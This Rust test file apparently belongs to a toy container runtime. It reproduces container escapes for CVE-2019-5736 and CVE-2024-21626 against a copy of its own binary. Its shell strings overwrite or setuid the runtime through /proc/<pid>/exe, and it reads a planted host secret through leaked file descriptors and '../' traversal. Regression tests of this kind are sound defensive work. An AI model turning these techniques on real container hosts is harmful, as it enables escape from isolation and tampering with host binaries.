//! The runtime itself: its program, and what it has open.

use std::fs;
use std::os::unix::fs::{MetadataExt, symlink};
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use crate::attack::{NO_NETWORK, Outcome, by_hand, new_path, own_rootfs, run_on};
use crate::common::{DAY, World, binary, said};
use crate::exhibit;

/// The host's runtime; a copy, for what becomes of it.
struct Program {
    path: PathBuf,
    before: (u64, u32),
}

impl Program {
    fn new(world: &World) -> Program {
        let path = new_path(world, "tiny-docker-copy");
        fs::copy(binary(), &path).unwrap();
        Program { before: facts(&path), path }
    }

    fn is_changed(&self) -> bool {
        facts(&self.path) != self.before
    }
}

fn facts(path: &Path) -> (u64, u32) {
    let metadata = fs::metadata(path).unwrap();
    (metadata.len(), metadata.mode())
}

/// What to do with the runtime's program, once it can be seen as that of a process: change what it
/// is, by each of two names; or who may do what with it.
fn spoil(process: &str) -> String {
    format!(
        "exec 3<{process}/exe && {{ (echo evil >>{process}/exe) || (echo evil >>/proc/self/fd/3) || \
         chmod 4777 {process}/exe; }}"
    )
}

// https://nvd.nist.gov/vuln/detail/CVE-2019-5736
#[test]
#[ignore = "privileged: make vm-test"]
fn exhibit_cve_2019_5736() {
    exhibit("cve_2019_5736", |world, flags| {
        assert_spoiled_by_hand(world);
        let outcome = once_more(world, flags);
        let outcome = if DAY < 16 { outcome } else { outcome.or(once_more_blind(world, flags)) };
        let outcome = if DAY < 6 { outcome } else { outcome.or(init(world, flags)) };
        #[cfg(feature = "day14-exec")]
        let outcome = outcome.or(on_its_way_in::attempt(world, flags));
        outcome
    });
}

/// A process that is in sight, and whose program can be written: that of busybox.
fn assert_spoiled_by_hand(world: &World) {
    let path = new_path(world, "busybox-copy");
    fs::copy("/usr/bin/busybox", &path).unwrap();
    let program = Program { before: facts(&path), path };
    let mut victim = Command::new(&program.path).arg0("sleep").arg("1000").spawn().unwrap();
    let output = by_hand(&spoil(&format!("/proc/{}", victim.id())));
    victim.kill().and_then(|()| victim.wait()).unwrap();
    assert!(program.is_changed(), "by hand: {}", said(&output));
}

/// The container's program is the runtime once more, which starts another one in there: so there is
/// somebody who can look at it.
fn once_more(world: &World, flags: &[&str]) -> Outcome {
    let (program, rootfs) = (Program::new(world), own_rootfs(world));
    symlink("/proc/self/exe", rootfs.join("bin/again")).unwrap();
    // What the inner one has mounted as its /proc is taken away, and there is the outer one's.
    let attack = format!("umount /proc; {}", spoil("/proc/1"));
    let host: &[&str] = if DAY >= 8 { &["--net", "host"] } else { &[] };
    let command = [&["again", "run"], host, &["sh", "-c", &attack]].concat();
    let output = run_with(world, &program, &rootfs, flags, &command);
    if !program.is_changed() && said(&output).contains("in a root file system that is not its own") {
        return Outcome::fails("not in this root", &output);
    }
    Outcome::of(&output, program.is_changed())
}

/// The same where the runtime in there cannot find out whose root it is in: a filter refuses it.
fn once_more_blind(world: &World, flags: &[&str]) -> Outcome {
    let profile = new_path(world, "profile");
    let rule = r#"{"names": ["statx", "readlinkat"], "action": "SCMP_ACT_ERRNO", "errnoRet": 38}"#;
    fs::write(&profile, format!(r#"{{"defaultAction": "SCMP_ACT_ALLOW", "syscalls": [{rule}]}}"#)).unwrap();
    let option = format!("seccomp={}", profile.display());
    once_more(world, &[flags, &["--security-opt", &option]].concat())
}

/// Its init is the runtime.
fn init(world: &World, flags: &[&str]) -> Outcome {
    let (program, rootfs) = (Program::new(world), own_rootfs(world));
    let flags = [&["--init"], flags].concat();
    let output = run_with(world, &program, &rootfs, &flags, &["sh", "-c", &spoil("/proc/1")]);
    if !program.is_changed() && output.status.success() {
        return Outcome::fails("a copy", &output);
    }
    Outcome::of(&output, program.is_changed())
}

fn run_with(world: &World, program: &Program, rootfs: &Path, flags: &[&str], command: &[&str]) -> Output {
    let flags = [NO_NETWORK, flags].concat();
    let mut run = Command::new(&program.path);
    run.args(run_on(rootfs, &flags, command)).current_dir(world.dir()).stdin(Stdio::null()).output().unwrap()
}

/// It goes into a container in which somebody waits for it.
#[cfg(feature = "day14-exec")]
mod on_its_way_in {
    use std::io::Write;

    use nix::sys::signal::{Signal, kill};
    use nix::unistd::Pid;

    use super::*;
    use crate::common::{descendants, state_now, until};

    /// One of the processes of this test that is stopped.
    fn stopped() -> Option<Pid> {
        descendants().into_iter().map(Pid::from_raw).find(|pid| state_now(*pid) == Some('T'))
    }

    /// How many operations the child does up to the last one that is inside and before its exec.
    fn moment(world: &World) -> usize {
        let output = world.tiny_docker(["--explain", "exec", "web", "true"]).output().unwrap();
        let told = String::from_utf8_lossy(&output.stderr).into_owned();
        let mut steps = told.lines().filter(|line| line.contains("] child "));
        steps.position(|line| line.contains("setsid()")).expect("it begins a session") + 1
    }

    pub fn attempt(world: &World, flags: &[&str]) -> Outcome {
        let (program, rootfs) = (Program::new(world), own_rootfs(world));
        let words = [NO_NETWORK, flags, &["-d", "--name", "web"]].concat();
        world.tiny_docker(run_on(&rootfs, &words, &["sleep", "1000"])).assert().success();
        let mut entering = Command::new(&program.path);
        entering.args(["exec", "web", "true"]).env("TINY_DOCKER_STOP_AT", format!("child:{}", moment(world)));
        let mut entering = entering.stdin(Stdio::null()).spawn().unwrap();
        until("it is held up inside", || stopped().is_some());
        let status = fs::read_to_string(format!("/proc/{}/status", stopped().unwrap())).unwrap();
        let number = status.lines().find(|line| line.starts_with("NSpid:")).unwrap();
        let process = format!("/proc/{}", number.split_whitespace().next_back().unwrap());
        let attack = format!(
            "exec 2>&1; exec 4<{process}/exe; echo open; read go; \
             echo evil >>/proc/self/fd/4 || chmod 4777 /proc/self/fd/4"
        );
        let mut attacker = world.start(["exec", "-i", "web", "sh", "-c", &attack]);
        let mut said = attacker.line();
        kill(stopped().unwrap(), Signal::SIGCONT).unwrap();
        assert!(entering.wait().unwrap().success(), "the command that was held up ends well");
        // Now that nobody executes the program any more.
        if said == "open" {
            attacker.stdin().write_all(b"go\n").unwrap();
        }
        said += &attacker.rest();
        attacker.ended();
        world.remove_all();
        if program.is_changed() { Outcome { cell: "works".into(), said } } else { Outcome::of_words(said) }
    }
}

// https://nvd.nist.gov/vuln/detail/CVE-2024-21626
#[test]
#[ignore = "privileged: make vm-test"]
fn exhibit_cve_2024_21626() {
    exhibit("cve_2024_21626", |world, flags| {
        let (rootfs, secret) = (own_rootfs(world), new_path(world, "secret"));
        fs::write(&secret, "the host's secret\n").unwrap();
        let read = format!("cat ../../../../..{}", secret.display());
        let by_hand = by_hand(&format!(
            "mount -t proc proc {0}/proc && exec 7</ && chroot {0} sh -c 'cd /proc/self/fd/7 && cat .{1}'",
            rootfs.display(),
            secret.display()
        ));
        assert_eq!(by_hand.stdout, b"the host's secret\n", "by hand: {}", said(&by_hand));
        // What its caller has left open, and what it has open itself at that moment.
        let attempts = (3..=9).map(|number| {
            let dir = format!("/proc/self/fd/{number}");
            let flags = [NO_NETWORK, &["-w", &dir], flags].concat();
            let leak = r#"exec 3</ 4</ 5</ 6</ 7</ 8</ 9</; exec "$0" "$@" </dev/null"#;
            let command = run_on(&rootfs, &flags, &["sh", "-c", &read]);
            let output = world.called_by(leak).args(command).output().unwrap();
            let works = output.stdout == b"the host's secret\n";
            // What it has open there is none of the host's directories.
            let none = ["No such file or directory", "File exists", "Not a directory"];
            if !works && none.iter().any(|words| said(&output).contains(words)) {
                return Outcome::fails("no directory", &output);
            }
            Outcome::of(&output, works)
        });
        attempts.reduce(Outcome::or).unwrap()
    });
}
